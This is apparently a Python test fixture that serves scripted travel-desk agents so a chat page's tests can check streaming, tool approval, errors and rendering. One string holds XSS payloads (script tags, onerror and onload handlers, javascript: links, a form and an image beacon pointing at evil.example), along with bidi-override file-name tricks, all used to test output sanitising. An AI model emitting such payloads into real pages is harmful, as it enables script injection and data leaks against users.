"""Scripted agents that the tests of the page look at: each prompt has an answer of its own, paced as
a model would.

Run: python page_agents.py PORT [KEY …]     (serves them with the page on 127.0.0.1)
"""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncIterator
from itertools import count
from pathlib import Path
from typing import Any

from dragoman import Agent, Memory, Message, ThinkingPart, ToolContext, serve, tool
from dragoman.errors import OverloadedError, RateLimitError
from dragoman.message import Role, ToolResultPart
from dragoman.request import ModelRequest
from dragoman.testing import ScriptedModel, call

PACE = float(os.environ.get("PACE", "0.01"))
"""Seconds between two words."""
GATE = os.environ.get("GATE")
"""A file with the number of steps that may be taken; without it they are taken one after the other."""
STEPS = count()
SIGNED = {"anthropic": {"signature": "c2lnbmVkLWJ5LXRoZS1zY3JpcHQ="}}

ANSWER = """**Oslo stays dry**, so the seat is yours.

| City | Sky | High |
|:--|:--|--:|
| Oslo | clear | 14 °C |
| Bergen | rain | 9 °C |

```python
def pack(city: str) -> list[str]:
    return ["coat"] if city == "Bergen" else []  # nothing for Oslo
```

> The [timetable](https://example.com/timetable) has all trains.
"""
HOSTILE = """Told by a page:

<script>window.__harm = 1</script>
<img src=x onerror="window.__harm = 2">
<svg onload="window.__harm = 3"><a href="javascript:window.__harm = 4">here</a></svg>
<iframe srcdoc="<script>parent.__harm = 5</script>"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name=key></form>

[a](javascript:window.__harm=6) [b](data:text/html,<script>1</script>) [good](https://example.com/)
![pixel](https://evil.example/p.png?secret)
\x1b[31mred\x1b[0m \u202etxt.exe
"""
NAMES = "\u202egnp.exe \u2066 \U000e0041 \x07 مرحبا بالعالم שלום <b>bold</b>"
CODE = "```python\n" + "value = call(1)  # a line\n" * 100_000 + "```"
TABLE = "| a | b | c |\n|--|--|--|\n" + "| one | two | three |\n" * 2_000
LONG = "\n\n".join(f"## Part {number}\n\n" + "The fjord lies still. " * 20 for number in range(60))


@tool
async def get_weather(context: ToolContext, city: str) -> dict[str, Any]:
    """The weather in a city.

    Args:
        city: its name.
    """
    for done in range(1, 4):
        await context.progress(done, 3, f"station {done}")
        await _pause(PACE * 40)
    if city == "Atlantis":
        raise ValueError("there is no station in Atlantis")
    return {"city": city, "sky": "rain" if city == "Bergen" else "clear"}


@tool(requires_approval=True, editable=True)
async def book_train(origin: str, destination: str, seats: int = 1) -> dict[str, Any]:
    """Books seats on a train."""
    await _pause(PACE * 5)
    return {"booking": "NSB-4471", "from": origin, "to": destination, "price": 389 * seats}


async def _pause(seconds: float) -> None:
    """Waits between two steps, or until the gate lets this one through."""
    if GATE is None:
        await asyncio.sleep(seconds)
        return
    step = next(STEPS)
    while int(Path(GATE).read_text() or 0) <= step:  # noqa: ASYNC110, ASYNC240 - a file's
        await asyncio.sleep(0.005)


async def _words(text: str, pace: float = PACE) -> AsyncIterator[str]:
    for word in text.split(" "):
        yield word + " "
        if pace:
            await _pause(pace)


async def _plan_trip(results: list[ToolResultPart], native: Any) -> AsyncIterator[Any]:
    """Two tools at once, one that a person must allow, and the answer."""
    names = {result.name for result in results}
    if not results:
        yield ThinkingPart("I need the weather of both cities before I book.", native=native)
        async for word in _words("I'll compare the weather first."):
            yield word
        yield call("get_weather", city="Oslo")
        yield call("get_weather", city="Bergen")
    elif "book_train" not in names:
        yield call("book_train", origin="Trondheim", destination="Oslo", seats=1)
    else:
        denied = any(result.denied or result.is_error for result in results)
        async for word in _words("Nothing was booked." if denied else ANSWER):
            yield word


def _script(native: Any, *, fails: bool = False) -> Any:
    async def answer(request: ModelRequest) -> AsyncIterator[Any]:
        prompts = [m.text for m in request.messages if m.role is Role.USER and m.text]
        prompt = prompts[-1].lower()
        results = [p for p in request.messages[-1].content if isinstance(p, ToolResultPart)]
        if "trip" in prompt:
            async for piece in _plan_trip(results, native):
                yield piece
        elif "atlantis" in prompt and not results:
            yield call("get_weather", city="Atlantis")
        elif "both ways" in prompt and not results:
            yield call("book_train", origin="Oslo", destination="Bergen", seats=1)
            yield call("book_train", origin="Bergen", destination="Oslo", seats=1)
        elif "strange name" in prompt and not results:
            yield call("book_train", origin=NAMES, destination="Oslo", seats=1)
        elif "boss" in prompt and not results:
            yield call("ask_desk", prompt="Plan my trip")
        elif "breaks" in prompt and fails:
            async for word in _words("This is taken back soon."):
                yield word
            raise OverloadedError("the model is overloaded")
        else:
            texts = {
                "hostile": HOSTILE,
                "long": LONG,
                "code": CODE,
                "table": TABLE,
                "huge": " ".join(["0123456789abcdef" * 160] * 440),
            }
            text = next((text for word, text in texts.items() if word in prompt), "As you say.")
            if any(word in prompt for word in ("huge", "code", "table")):
                yield text
                return
            async for word in _words(text):
                yield word

    def begin(request: ModelRequest) -> AsyncIterator[Any]:
        if "limit" in request.messages[-1].text:
            raise RateLimitError("too many requests for the model", status=429, retry_after=12.0)
        return answer(request)

    return begin


async def _seed(memory: Any, count: int) -> None:
    """Makes a conversation of so many messages."""
    texts = [f"Message **{number}** of `many`." for number in range(count)]
    messages = [
        Message.model(text) if number % 2 else Message.user(text)
        for number, text in enumerate(texts)
    ]
    await memory.save(messages, "many", resource_id="anonymous")


def _make_gateway() -> serve.Gateway:
    """A gateway with one model, which is too busy whenever a prompt names a limit."""
    model = ScriptedModel.like("openai:gpt-4o", _script(None), chunks=64)
    return serve.Gateway({"small": model})


def make_app(keys: list[str]) -> Any:
    """The application: one agent with a memory that may be asked with three models."""

    def model(name: str, native: Any = None, *, fails: bool = False) -> Any:
        return ScriptedModel.like(name, _script(native, fails=fails), chunks=64)

    store = os.environ.get("STORE", "memory:")
    agent = Agent(
        model("anthropic:claude-sonnet-4-6", SIGNED),
        tools=[get_weather, book_train],
        system="You are the travel desk.",
        memory=Memory(store, last_messages=200),
        display_name="Travel desk",
    )
    card = serve.AgentCard(
        description="Plans trips and books trains.",
        skills=(serve.Skill(id="trips", examples=("Plan my trip",)),),
    )
    inner = Agent(model("anthropic:claude-sonnet-4-6"), tools=[get_weather, book_train])
    is_durable = "DURABLE" in os.environ
    # Durable runs take no scripted models, which are records of providers.
    policy = serve.AgentPolicy(
        models=[]
        if is_durable
        else [model("openai-responses:gpt-5.2"), model("google:gemini-2.5-flash")]
    )
    auth = [serve.Key(key, name=f"key {n}") for n, key in enumerate(keys)] or None
    agents = {
        "desk": agent,
        # Without a memory; its first model is overloaded now and then.
        "spare": Agent(
            [model("anthropic:claude-haiku-4-5", fails=True), model("openai:gpt-4o")],
            tools=[get_weather, book_train],
        ),
        "boss": Agent(
            model("anthropic:claude-opus-4-5"),
            tools=[inner.as_tool(name="ask_desk", description="Asks the travel desk.")],
            memory=Memory(store),
        ),
    }
    app = serve.app(
        agents,
        policy=policy,
        cards={"desk": card},
        store=store,
        auth=auth,
        page=True,
        gateway=_make_gateway(),
        durable=is_durable,
    )
    if "SEED" in os.environ:
        asyncio.run(_seed(agent.memory, int(os.environ["SEED"])))
    service = app.state.service
    service.lease_seconds = float(os.environ.get("LEASE", "30"))
    service.runs = service.open_runs()  # those it has were made with the lease of before
    return app


if "KEYS" in os.environ:  # for `dragoman serve page_agents:app`
    app = make_app(os.environ["KEYS"].split())

if __name__ == "__main__":
    port, *given = sys.argv[1:]
    serve.run_server(make_app(given), port=int(port))
